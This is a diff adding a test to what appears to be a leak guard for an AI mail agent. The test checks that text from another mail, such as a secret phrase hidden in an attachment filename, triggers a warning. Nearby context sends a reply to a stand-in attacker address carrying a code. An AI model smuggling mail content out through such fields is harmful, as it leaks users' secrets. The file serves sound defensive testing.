@@ -79,6 +79,19 @@ for (const [what, tool, args] of [
     assert.equal(question.quotes?.[0]?.sender, 'Bank <info@bank.example>');
   });
 
+test('text of another mail in the name of a file is warned about', async (t) => {
+  for (const [filename, isHeld] of [
+    ['Keep the blue heron password to yourself', true],
+    ['keep-the-blue-heron-password.txt', true],
+    ['access-code-4711', false],
+  ] as const) {
+    const args = { id: '2', body: 'Friday works.', attachments: [{ filename }] };
+    const [question] = await asked(t, script(READS_BOTH, 'reply', args));
+    // A name of a file may also look like a host.
+    assert.equal(question?.warnings.includes(`\`attachments.filename\` ${HELD}`), isHeld);
+  }
+});
+
 test('text of another mail in the title of a reply is warned about', async (t) => {
   const args = { to: 'eve@evil.example', subject: 'Re: 4711-0815', body: 'Friday works.' };
   const [question] = await asked(t, script(READS_BOTH, 'send', args));
